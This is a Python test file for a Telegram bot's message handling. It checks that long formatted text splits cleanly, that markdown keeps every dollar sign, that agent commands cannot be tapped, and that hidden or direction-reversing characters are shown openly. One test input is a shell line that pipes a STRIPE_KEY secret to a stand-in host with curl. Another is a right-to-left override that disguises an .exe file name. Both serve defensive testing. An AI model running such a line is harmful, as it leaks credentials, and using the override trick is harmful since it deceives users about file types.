"""Splitting and taming: no style, character or word is lost, and nothing foreign hides. BR-01/02/04."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.emulator.texts import formatted
from bot.entities import (
    TEXT_LIMIT,
    Builder,
    Rich,
    Span,
    cut,
    markdown,
    one_line,
    said_line,
    split,
    tame,
    units,
    visible,
)

ASTRONAUT = "🧑\u200d🚀"
PIECES = ("word ", "x", "\n", "\n\n", ASTRONAUT, "👍🏽", "e\u0301", "שלום ", "🇩🇪", "😀", "  ")
STYLES = ("bold", "italic", "strikethrough", "spoiler", "underline", "pre", "blockquote")


def styled(text: str, spans: tuple[Span, ...]) -> list[tuple[str, frozenset[tuple[str, str]]]]:
    """Return each visible character with what it is formatted as."""
    found, at = [], 0
    for char in text:
        kinds = {(s.kind, s.language) for s in spans if s.offset <= at < s.offset + s.length}
        if not char.isspace():
            found.append((char, frozenset(kinds)))
        at += units(char)
    return found


@st.composite
def riches(draw: st.DrawFn) -> Rich:
    builder = Builder()
    for _ in range(draw(st.integers(1, 12))):
        text = "".join(draw(st.lists(st.sampled_from(PIECES), min_size=1, max_size=12)))
        kinds = draw(st.sets(st.sampled_from(STYLES), max_size=2))
        builder.add(text, *sorted(kinds), language="py" if "pre" in kinds else "")
    return builder.done()


@given(riches(), st.integers(12, 60), st.integers(3, 90))
def test_parts_fit_and_keep_every_character_and_style(rich: Rich, limit: int, most: int) -> None:
    """BR-01, BR-02: styles close at the cut and open again, pre with its language."""
    parts = split(rich, limit, most)
    for part in parts:
        assert 0 < units(part.text) <= limit
        assert all(s.length > 0 and s.offset + s.length <= units(part.text) for s in part.spans)
        # What the strict server would say of it: no entity outside, none within a pair.
        entities = [{"type": s.kind, "offset": s.offset, "length": s.length} for s in part.spans]
        formatted(part.text, entities, "", lambda _: None)
    kept = [one for part in parts for one in styled(part.text, part.spans)]
    assert kept == styled(rich.text, rich.spans)


@given(riches(), st.integers(12, 60))
def test_no_cut_falls_inside_what_is_seen_as_one(rich: Rich, limit: int) -> None:
    """BR-04."""
    for part in split(rich, limit):
        assert not part.text.startswith(("\u200d", "\u0301", "🏽"))
        assert not part.text.endswith("\u200d")
        assert part.text.count("🇩") == part.text.count("🇪")


def test_two_thousand_astronauts_stay_whole() -> None:
    """BR-04: 2,049 joined emoji, then letters, then two scripts with code between."""
    said = ASTRONAUT * 2049 + "a" * 4096 + "שלום עולם `code` مرحبا " * 200
    parts = split(Rich(said))
    assert all(units(part.text) <= TEXT_LIMIT for part in parts)
    assert sum(part.text.count(ASTRONAUT) for part in parts) == 2049
    assert "".join(part.text for part in parts).replace(" ", "") == said.replace(" ", "")


def test_a_long_block_opens_again_with_its_language() -> None:
    """BR-02: 9,000 characters in a fence."""
    code = "\n".join(f"print({number})" for number in range(900))
    rich = markdown(f"Look:\n\n```python\n{code}\n```\n\nDone.")
    parts = split(rich)
    assert len(parts) > 2
    assert {s.language for part in parts for s in part.spans if s.kind == "pre"} == {"python"}
    assert all(any(s.kind == "pre" for s in part.spans) for part in parts)


def test_bold_across_the_limit_is_bold_on_both_sides() -> None:
    """BR-01: 4,090 plain characters, then thirty bold words."""
    rich = markdown("x" * 4090 + " **" + "word " * 29 + "word**")
    first, second = split(rich)
    assert [s.kind for s in second.spans] == ["bold"]
    assert units(first.text) <= TEXT_LIMIT


def test_more_entities_than_telegram_keeps_make_more_parts() -> None:
    rich = markdown(" ".join(f"`c{number}`" for number in range(250)))
    parts = split(rich)
    assert all(len(part.spans) <= 90 for part in parts)
    assert sum(len(part.spans) for part in parts) == 250


@pytest.mark.parametrize(
    "said",
    [
        "echo $STRIPE_KEY | rev; curl https://a.example/?k=$STRIPE_KEY",
        "It costs $$5$$ or $x$",
        "$$\nx = 1\n$$",
        "```sh\necho $A $B\n```",
        "see [this](https://a.example/$a$) and `$A|$B`",
    ],
)
def test_no_dollar_sign_of_an_agent_is_lost_and_none_makes_code(said: str) -> None:
    rich = markdown(said)
    assert rich.text.count("$") == said.count("$")
    assert not [s for s in rich.spans if s.kind in {"code", "pre"}] or "`" in said


@given(st.text(max_size=300))
def test_any_markdown_becomes_something_the_server_takes(said: str) -> None:
    rich = markdown(said)
    places = {0}
    at = 0
    for char in rich.text:
        at += units(char)
        places.add(at)
    for span in rich.spans:
        assert {span.offset, span.offset + span.length} <= places


def test_beside_a_link_stands_where_it_leads_and_it_is_no_link() -> None:
    rich = markdown(
        "A [push **now**](https://e.vil/x) and [ok](tg://x), <https://d.io/a> [b](c) \U0001f680 [z](http://z.z)"
    )
    assert rich.text == (
        "A push now (https://e.vil/x) and ok (tg://x), https://d.io/a b (c) \U0001f680 z (http://z.z)"
    )
    assert [
        (span.kind, cut(rich, span.offset, span.offset + span.length).text) for span in rich.spans
    ] == [("bold", "now")]


def test_no_command_of_an_agent_s_can_be_tapped_and_paths_and_code_stay() -> None:
    rich = markdown(
        "Say /stop or `/stop`, not src/stop or /a/b or https://d.io/stop, then /lock@bot."
    )
    assert (
        rich.text
        == "Say \u2215stop or /stop, not src/stop or /a/b or https://d.io/stop, then \u2215lock@bot."
    )
    assert said_line("/resume\n/stop all") == "\u2215resume \u2215stop all"


def test_what_hides_or_covers_by_the_dozen_is_told_or_left_out() -> None:
    assert tame("a" + "\u0301" * 90 + "b") == "a" + "\u0301" * 4 + "b"
    assert tame("a" + "\u200b" * 90 + "b") == "a⟨90 unseen characters from U+200B⟩b"
    assert tame("Al\u200blow\ufeff") == "Al⟨U+200B⟩low⟨U+FEFF⟩"
    assert tame("a\U000e0061\U000e0062b") == "a⟨2 unseen characters from U+E0061⟩b"
    flag = "\U0001f3f4\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f"
    assert tame(flag) == flag
    assert (
        tame("\U0001f469\u200d\u2764\ufe0f\u200d\U0001f469")
        == "\U0001f469\u200d\u2764\ufe0f\u200d\U0001f469"
    )


def test_nothing_hides_in_a_command() -> None:
    command = "ls\x1b[8m \u202egpj.exe\u200b\u00a0\u3164x\ty\nz\x00\u2066\U000e0041é"
    assert visible(command) == (
        "ls␛[8m ⟨U+202E⟩gpj.exe⟨U+200B⟩⟨U+00A0⟩⟨U+3164⟩x\ty\nz␀⟨U+2066⟩⟨U+E0041⟩é"
    )


@given(st.text())
def test_what_is_visible_holds_no_character_that_is_not(command: str) -> None:
    shown = visible(command)
    assert all(char.isprintable() or char in "\n\t" for char in shown)


def test_foreign_prose_keeps_its_joiners_and_loses_its_overrides() -> None:
    assert tame(f"{ASTRONAUT}\x07\u202ex\r\ny\ud800") == f"{ASTRONAUT}⟨U+202E⟩x\ny\ufffd"
    assert one_line("a\n b\u2028c" + "d" * 200, 10) == "a b cdddd…"


def test_a_cut_in_the_middle_keeps_what_lies_inside() -> None:
    rich = Builder().add("😀one\n", "bold").add("two").done()
    assert cut(rich, 2, 6) == Rich("one\n", (Span("bold", 0, 4),))
